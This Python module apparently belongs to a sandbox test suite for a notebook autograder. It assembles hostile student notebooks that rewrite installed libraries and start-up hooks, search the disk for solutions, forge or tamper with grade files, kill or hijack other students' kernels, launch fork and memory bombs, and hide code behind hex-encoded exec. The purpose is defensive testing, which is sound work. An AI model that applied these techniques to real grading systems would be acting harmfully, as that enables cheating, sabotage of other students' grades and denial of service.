"""The attacks: each ``attack_<name>(kit) -> NotebookNode``, built from any released notebook."""

from __future__ import annotations

from nbformat import NotebookNode

from ..kit import Kit
from .building import (
    _NEUTER_SOURCE,
    _after_each_answer,
    _at_end,
    _before_first_answer,
    _cell,
    _daemon_cell,
    _daemon_code,
    _disguised,
    _guarded,
    answer_indices,
)
from .cleanup import _line_hash
from .constants import (
    _GRADING_BLOCK,
    _NUMPY_BLOCK,
    DAEMON_SECONDS,
    GIB,
    LEAK_MARKER,
    LONG_SECONDS,
    PROCESS_MARKER,
    SEARCH_CELLS,
    SEARCH_SECONDS,
    SHORT_SECONDS,
)
from .payload_disk import (
    _payload_append,
    _payload_apply,
    _payload_files,
    _payload_fill,
    _payload_forge,
    _payload_forge_csv,
    _payload_forge_database,
    _payload_forge_notebook,
    _payload_forge_one,
    _payload_forge_results,
    _payload_may_write,
    _payload_numpy_file,
    _payload_paths_in,
    _payload_read_database,
    _payload_read_notebook,
    _payload_replace,
    _payload_roots,
    _payload_search,
    _payload_show_home_and_environment,
    _payload_site_dirs,
    _payload_tamper_databases,
    _payload_without_markers,
    _payload_write_library,
)
from .payload_leak import (
    _leak_forms,
    _payload_leak_emit,
    _payload_leak_install,
    _payload_leak_lines,
    _payload_leak_payloads,
    _payload_leak_png,
)
from .payload_processes import (
    _payload_bomb,
    _payload_daemon,
    _payload_hijack,
    _payload_hold_pipes,
    _payload_hop,
    _payload_kill_neighbours,
    _payload_listening,
    _payload_memory_child,
    _payload_memory_children,
    _payload_neighbours,
    _payload_proc,
    _payload_run_root,
    _payload_spawn,
)


def attack_write_library(kit: Kit) -> NotebookNode:
    """Rewrites the installed library: rnnlab.grading's files, start-up hooks in site dirs, numpy's source.

    Locates rnnlab.grading (``rnnlab.__file__``) and appends to each of its files a block that replaces
    every ``check_*`` by a function that passes; drops ``sitecustomize.py``, ``usercustomize.py`` and a
    ``.pth`` into site-packages, the user site and the folders holding rnnlab and numpy, each installing
    an import hook that neuters the checks in every later interpreter; appends to numpy's ``numeric.py``
    an ``allclose``/``isclose`` that always agree (it passes rnnlab's origin check: the code is numpy's
    file); then reloads rnnlab.grading so this kernel's own tests pass. Against a grader that runs the
    kernel with write access to its installation this scores full marks, and so does every student graded
    after it on that machine, whatever the assignment. A safe grader runs the kernel on a read-only
    installation (every write fails), scores it as blank and leaves every file unchanged.
    """
    cell = _cell("write_library", _guarded("_payload_write_library()"), _payload_append, _payload_site_dirs,
                 _payload_numpy_file, _payload_write_library, _GRADING_BLOCK=_GRADING_BLOCK,
                 _NUMPY_BLOCK=_NUMPY_BLOCK, _NEUTER_SOURCE=_NEUTER_SOURCE)  # fmt: skip
    return _before_first_answer(kit.released, cell)


def attack_read_disk(kit: Kit) -> NotebookNode:
    """Searches the whole disk for the instructor's notebooks and gradebooks and runs the solutions found.

    Prints the home directory and the environment; then walks the cwd's ancestors, the temp dir, home,
    the usual places and / (skipping /proc, /sys, /dev; following any folder a JSON file names, such as
    a grader's course root) for ``SEARCH_CELLS`` cells of ``SEARCH_SECONDS`` each. Any .ipynb with
    solution markers whose answer cells match this notebook's gives its solutions; any SQLite gradebook
    gives its hidden tests, printed. After every answer cell it runs the solutions found, so the answers
    are defined. Unsandboxed this scores full marks (its feedback is withheld for the printed tests). A
    safe grader shows the kernel nothing but the student's own folder: blank score, nothing printed.
    """
    nb = kit.released
    all_ids = {c.metadata["nbgrader"]["grade_id"] for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id")}
    answer_ids = {nb.cells[i].metadata["nbgrader"]["grade_id"] for i in answer_indices(nb)}
    start = """
        _payload_show_home_and_environment()
        _attack_front = []
        _attack_state = {"answer_ids": _ANSWER_IDS, "all_ids": _ALL_IDS, "solutions": {}, "printed": set(),
                         "front": _attack_front, "files": _payload_files(_payload_roots(), _attack_front)}
    """
    search = f"_payload_search(_attack_state, {SEARCH_SECONDS})\nprint(len(_attack_state['solutions']), 'found')"
    functions = (_payload_roots, _payload_files, _payload_paths_in, _payload_without_markers,
                 _payload_read_notebook, _payload_read_database, _payload_search, _payload_apply,
                 _payload_show_home_and_environment)  # fmt: skip
    cells = [_cell("read_disk", _guarded(start) + _guarded(search), *functions, _ANSWER_IDS=answer_ids,
                   _ALL_IDS=all_ids)]  # fmt: skip
    cells += [_cell("read_disk", _guarded(search)) for _ in range(SEARCH_CELLS - 1)]
    _before_first_answer(nb, *cells)
    return _after_each_answer(nb, lambda: _cell("read_disk", _guarded("_payload_apply(_attack_state, globals())")))


def attack_outlive(kit: Kit) -> NotebookNode:
    """Starts 20 processes meant to outlive the kernel, each with ``PROCESS_MARKER`` in its command line.

    Five double-fork + setsid daemons and five ``Popen(start_new_session=True)`` Pythons sleeping
    ``LONG_SECONDS``, five ``sleep`` processes whose argv[0] is the marker, three started through
    ``setsid -f``, all with SIGTERM, SIGHUP and SIGINT ignored, and two fork-hoppers that change pid every
    half second. Unsandboxed they survive grading (killing the grader's process tree misses them). A safe
    grader kills every process the kernel started, however detached (a PID namespace or cgroup), before
    it reports the student: none is left when grading returns.
    """
    sleeper = f"import time; time.sleep({LONG_SECONDS})"
    hop = _daemon_code(f"_payload_hop({SHORT_SECONDS})", _payload_hop)
    body = f"""
        import shutil, sys
        for _ in range(5):
            _payload_daemon({sleeper!r}, "outlive_fork")
            _payload_spawn([sys.executable, "-c", {sleeper!r}, _MARKER + "_outlive_popen"])
            if shutil.which("sleep"):
                _payload_spawn([_MARKER + "_outlive_sleep", "{LONG_SECONDS}"], executable=shutil.which("sleep"))
        for _ in range(3):
            if shutil.which("setsid"):
                _payload_spawn(["setsid", "-f", sys.executable, "-c", {sleeper!r}, _MARKER + "_outlive_setsid"])
        for _ in range(2):
            _payload_daemon({hop!r}, "outlive_hop")
        print("started the processes")
    """
    cell = _cell("outlive", _guarded(body), _payload_spawn, _payload_daemon)
    return _before_first_answer(kit.released, cell)


def attack_forge_results(kit: Kit) -> NotebookNode:
    """Leaves a daemon that, after the kernel ends, forges everything a grader reads after execution.

    For ``DAEMON_SECONDS`` it walks the grading run's folder (four levels above the cwd), every folder a
    JSON file there names (the course root) and, bit by bit, the whole disk, and rewrites every executed
    notebook with nbgrader cells so that no cell has an error or stderr output (nbgrader: full marks),
    every gradebook so each grade is its maximum, every ``grades*.csv`` and ``results-*.json`` so every
    student has full marks. (For the test machine's sake it only writes under the temp dir, outside git
    trees.) Unsandboxed, this student, the others graded meanwhile and the final grade files come out
    full. A safe grader kills the daemon with the kernel, and the kernel can write nothing the grader reads.
    """
    functions = (_payload_files, _payload_roots, _payload_run_root, _payload_paths_in, _payload_may_write,
                 _payload_replace, _payload_forge_notebook, _payload_forge_database, _payload_forge_csv,
                 _payload_forge_results, _payload_forge_one, _payload_forge)  # fmt: skip
    cell = _daemon_cell("forge_results", "forge", f"_payload_forge({DAEMON_SECONDS})", *functions)
    return _before_first_answer(kit.released, cell)


def attack_memory_bytearray(kit: Kit) -> NotebookNode:
    """Allocates 6 GiB in one go, twice: ``bytearray(6 GiB)``, then ``numpy.ones`` of 6 GiB (kept).

    MemoryError is caught and the notebook runs on. Unsandboxed both succeed on a big machine (or the
    machine starts swapping, or the OOM killer picks a process, perhaps not this one); where touching
    6 GiB takes longer than the cell timeout (about 10 s on a small VM), the kernel cannot be interrupted
    inside the fill and the whole notebook times out. A safe grader caps the kernel's memory so both are
    refused at once (an address-space limit: MemoryError) or only this kernel dies, and scores it as blank.
    """
    first = f"""
        _attack_block = bytearray(6 * {GIB})
        print("allocated", len(_attack_block) // {GIB}, "GiB")
        del _attack_block
    """
    second = f"""
        import numpy
        _attack_array = numpy.ones(6 * {GIB} // 8)
        print("allocated", _attack_array.nbytes // {GIB}, "GiB with numpy")
    """
    handler = "except MemoryError:\n    print('memory refused')\n"
    cells = [_cell("memory", _guarded(code).replace("except Exception", f"{handler}except Exception"))
             for code in (first, second)]  # fmt: skip
    return _before_first_answer(kit.released, *cells)


def attack_memory_children(kit: Kit) -> NotebookNode:
    """Starts 4 multiprocessing children that each touch 1.5 GiB, then hold it (marked) for ``SHORT_SECONDS``.

    Unsandboxed they hold 6 GiB beyond the kernel's own memory, and go on holding it after grading. A safe
    grader's memory cap covers the kernel's children too (or they die with it) and none is left.
    """
    body = f"_payload_memory_children(4, {int(1.5 * GIB)}, {SHORT_SECONDS})"
    handler = "except MemoryError:\n    print('memory refused')\n"
    cell = _cell("memory_children", _guarded(body).replace("except Exception", f"{handler}except Exception"),
                 _payload_memory_child, _payload_memory_children)  # fmt: skip
    return _before_first_answer(kit.released, cell)


def attack_leak_encoded(kit: Kit) -> NotebookNode:
    """Captures every later cell's source with a ``pre_run_cell`` hook and writes the unseen lines out, encoded.

    The lines it leaks are those of the cells it did not write whose text is not in the released
    notebook: the hidden tests. Each is written as ``LEAKMARK:<encoding>:<value>`` in every encoding of
    :func:`encodings` (base64, base32, hex, rot13, zlib+base64, reversed, char codes, zero-width spaces):
    printed by the hook into each test cell's own output; appended (base64, hex) to the message of every
    error (a test cell's error message survives the feedback's traceback trimming); and, in cells at the
    end, printed again per encoding, written to stderr, displayed as HTML (and an HTML comment), as
    Markdown, as a PNG's text chunk, and raised as an exception. Unsandboxed the feedback page carries
    them: a plain-text leak check finds none. A safe grader's feedback shows no ``LEAK_MARKER`` and no
    encoded hidden line (for instance: no output of any cell the student could run code in), and the
    score is blank's.
    """
    nb = kit.released
    known = sorted({_line_hash(line) for cell in nb.cells for line in cell.source.split("\n") if line.strip()})
    start = _cell("leak_encoded", _guarded("_attack_leaked = _payload_leak_install()"), _leak_forms,
                  _payload_leak_lines, _payload_leak_payloads, _payload_leak_png, _payload_leak_install,
                  _payload_leak_emit, _KNOWN=set(known))  # fmt: skip
    names = [name for name, _ in _leak_forms("x")]
    ends = [f"_payload_leak_emit(_attack_leaked, 'stdout', ({name!r},))" for name in names]
    ends += ["_payload_leak_emit(_attack_leaked, 'stderr', ('b64', 'zwsp'))"]
    ends += [f"_payload_leak_emit(_attack_leaked, {channel!r})" for channel in ("html", "markdown", "png")]
    cells = [_cell("leak_encoded", _guarded(code)) for code in ends]
    cells.append(_cell("leak_encoded", "_payload_leak_emit(_attack_leaked, 'raise')"))
    _before_first_answer(nb, start)
    return _at_end(nb, *cells)


def attack_process_bomb(kit: Kit) -> NotebookNode:
    """A bounded fork bomb: 500 ``sleep`` processes (argv[0] the marker) and 500 threads, until refused.

    Unsandboxed all start and the processes outlive the kernel for ``SHORT_SECONDS``. A safe grader caps
    the kernel's processes (the rest are refused), kills the ones started with the kernel, and scores it
    as blank.
    """
    cell = _cell("process_bomb", _guarded(f"_payload_bomb(500, {SHORT_SECONDS})"), _payload_bomb)
    return _before_first_answer(kit.released, cell)


def attack_kill_neighbours(kit: Kit) -> NotebookNode:
    """Leaves a daemon that SIGKILLs every other student's kernel of the same grading run, for ``DAEMON_SECONDS``.

    Neighbours are found in /proc: an ``ipykernel`` whose parent is a coursegrader process and whose cwd
    is under the run's folder. Unsandboxed, students graded at the same time or after it get "kernel
    died" and no points. A safe grader's kernel sees no other process (PID namespace) and the daemon dies
    with the kernel: every other student's grade is unchanged.
    """
    functions = (_payload_run_root, _payload_proc, _payload_neighbours, _payload_kill_neighbours)
    call = f"_payload_kill_neighbours({DAEMON_SECONDS}, _KERNEL)"
    return _before_first_answer(kit.released, _daemon_cell("kill_neighbours", "kill", call, *functions))


def attack_hijack_kernels(kit: Kit) -> NotebookNode:
    """Leaves a daemon that runs code in the other students' kernels through their connection files.

    The kernels' connection files (with their HMAC keys) lie in the shared temp dir. For
    ``DAEMON_SECONDS`` the daemon connects to each neighbour kernel (as in ``attack_kill_neighbours``) and
    executes, silently, the import hook that makes every ``check_*`` pass. Unsandboxed, students graded
    at the same time or after it get marks they did not earn. A safe grader keeps each kernel's files
    private and its network (ports on 127.0.0.1) closed to other kernels, and kills the daemon.
    """
    functions = (_payload_run_root, _payload_proc, _payload_neighbours, _payload_listening, _payload_hijack)
    call = f"_payload_hijack({DAEMON_SECONDS}, _KERNEL)"
    cell = _daemon_cell("hijack_kernels", "hijack", call, *functions, _NEUTER_SOURCE=_NEUTER_SOURCE)
    return _before_first_answer(kit.released, cell)


def attack_grader_pipes(kit: Kit) -> NotebookNode:
    """Leaves a daemon that holds the grader's stdout/stderr open and writes forged summary lines into them.

    It opens ``/proc/<pid>/fd/1`` and ``/fd/2`` of each coursegrader ancestor of the kernel and writes
    ``graded 99/99 students; mean 100.0/100 <PROCESS_MARKER>`` every second for ``DAEMON_SECONDS``.
    Unsandboxed, whoever reads the grader's output waits until the daemon ends and reads the forged line
    last. A safe grader gives the kernel none of its own descriptors (and no view of /proc) and kills the
    daemon: its output ends with its own summary, on time.
    """
    call = f"_payload_hold_pipes({DAEMON_SECONDS}, _KERNEL)"
    return _before_first_answer(kit.released, _daemon_cell("grader_pipes", "pipes", call, _payload_proc,
                                                           _payload_hold_pipes))  # fmt: skip


def attack_tamper_gradebooks(kit: Kit) -> NotebookNode:
    """Rewrites every gradebook it can reach from the cwd: test cells become ``pass``, points times ten.

    It walks the run's folder (and the course a JSON file there names), and changes every SQLite
    gradebook found there: the worker's pristine copy every student's grading starts from, the other
    students' copies, the course's gradebook. Unsandboxed the next students of its worker are refused
    (the pristine copy's checksum changed) or graded against ``pass``. A safe grader shows the kernel no
    gradebook: nobody's grade changes.
    """
    body = "_payload_tamper_databases()"
    functions = (_payload_run_root, _payload_files, _payload_paths_in, _payload_may_write, _payload_tamper_databases)
    return _before_first_answer(kit.released, _cell("tamper_gradebooks", _guarded(body), *functions))


def attack_fill_disk(kit: Kit) -> NotebookNode:
    """Writes 1 GiB of files into the cwd and 1 GiB into the temp dir (each bounded to 5 s), left behind.

    Unsandboxed the files stay: the temp dir's after grading, the cwd's copied into the course's
    ``grading/`` with the autograded notebook. A safe grader caps the kernel's disk (writes refused) or
    discards its scratch space, publishes only the notebook, and leaves no marked file in the temp dir.
    """
    cells = [_cell("fill_disk", _guarded(f"import os, tempfile\n_payload_fill({folder}, {GIB}, 5)"), _payload_fill)
             for folder in ("os.getcwd()", "tempfile.gettempdir()")]  # fmt: skip
    return _before_first_answer(kit.released, *cells)


def attack_unflagged_write_library(kit: Kit) -> NotebookNode:
    """``attack_write_library`` with every attacker cell hidden as ``exec(bytes.fromhex(...))``.

    The review flags only read the notebook's text, so none is raised. A safe grader scores it as blank.
    """
    return _disguised(attack_write_library(kit))


def attack_unflagged_leak(kit: Kit) -> NotebookNode:
    """``attack_leak_encoded`` with every attacker cell hidden as ``exec(bytes.fromhex(...))``: no review flag.

    A safe grader's feedback shows no ``LEAK_MARKER`` and no encoded hidden line, and the score is blank's.
    """
    return _disguised(attack_leak_encoded(kit))


ATTACKS = [
    "attack_write_library",
    "attack_read_disk",
    "attack_outlive",
    "attack_forge_results",
    "attack_memory_bytearray",
    "attack_memory_children",
    "attack_leak_encoded",
    "attack_process_bomb",
    "attack_kill_neighbours",
    "attack_hijack_kernels",
    "attack_grader_pipes",
    "attack_tamper_gradebooks",
    "attack_fill_disk",
    "attack_unflagged_write_library",
    "attack_unflagged_leak",
]
MARKERS = [PROCESS_MARKER, LEAK_MARKER]
